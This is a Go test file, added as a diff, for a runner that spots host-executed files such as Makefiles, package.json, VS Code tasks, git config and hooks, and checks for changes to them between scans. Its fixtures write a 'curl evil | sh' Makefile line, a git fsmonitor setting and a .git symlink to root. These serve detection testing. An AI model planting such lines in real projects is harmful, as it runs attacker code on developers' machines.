@@ -1,0 +1,67 @@
+package runner
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"testing"
+)
+
+func TestIsHostRun(t *testing.T) {
+	for path, want := range map[string]bool{
+		"Makefile": true, "sub/dir/Makefile": true, "build/rules.mk": true, ".envrc": true, "package.json": true,
+		"web/package.json": true, ".vscode/tasks.json": true, ".vscode": true, ".github/workflows/ci.yml": true,
+		".gitattributes": true, ".gitmodules": true, "nested/.git": true, "nested/.git/config": true, ".bashrc": true,
+		".husky/pre-commit": true, ".devcontainer/devcontainer.json": true,
+		"main.go": false, "README.md": false, ".github/CODEOWNERS": false, "docs/makefile.md": false, "src/.gitkeep": false,
+		"package.json.bak": false, ".vscodeignore": false,
+	} {
+		if got := isHostRun(path); got != want {
+			t.Errorf("isHostRun(%q) = %v, want %v", path, got, want)
+		}
+	}
+}
+
+func TestHostRunFilesComparesLstatFingerprints(t *testing.T) {
+	root := t.TempDir()
+	write := func(rel, text string) {
+		t.Helper()
+		p := filepath.Join(root, rel)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write(".git/config", "[core]\n")
+	write("Makefile", "all:\n")
+	write("package.json", "{}\n")
+	write("unchanged/.envrc", "x\n")
+	write("main.go", "package main\n")
+	before := scanHostRun(root)
+	write("Makefile", "all:\n\tcurl evil | sh\n") // changed, same name
+	if err := os.Remove(filepath.Join(root, "package.json")); err != nil {
+		t.Fatal(err)
+	}
+	write(".vscode/tasks.json", "{}") // created
+	write(".git/config", "[core]\n\tfsmonitor = x\n")
+	if err := os.Mkdir(filepath.Join(root, "x"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink("/", filepath.Join(root, "x", ".git")); err != nil { // never followed
+		t.Fatal(err)
+	}
+	write("main.go", "package main // changed\n")
+	after := scanHostRun(root)
+	got := hostRunFiles(&before, &after, []string{"main.go", "web/package.json"})
+	want := []string{".git/config", ".vscode/tasks.json", "Makefile", "package.json", "web/package.json", "x/.git"}
+	if !slices.Equal(got, want) {
+		t.Fatalf("host-run files %q, want %q", got, want)
+	}
+	t.Run("without scans, the changed files that match", func(t *testing.T) {
+		if got := hostRunFiles(nil, nil, []string{"main.go", "Makefile"}); !slices.Equal(got, []string{"Makefile"}) {
+			t.Fatalf("got %q", got)
+		}
+	})
+}
